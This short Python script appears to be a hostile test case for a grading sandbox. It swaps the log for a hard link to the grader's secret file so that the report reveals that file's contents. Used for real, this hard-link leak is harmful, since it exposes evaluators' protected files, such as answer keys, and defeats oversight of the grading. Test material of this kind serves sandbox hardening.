"""Makes the log another name of a file of whoever marks, for the report to show it."""

import contextlib
import os

import hostile


def make(name):
    with contextlib.suppress(OSError):
        os.link(hostile.TARGETS["secret_file"], name)


hostile.play()
hostile.replace_log(make)
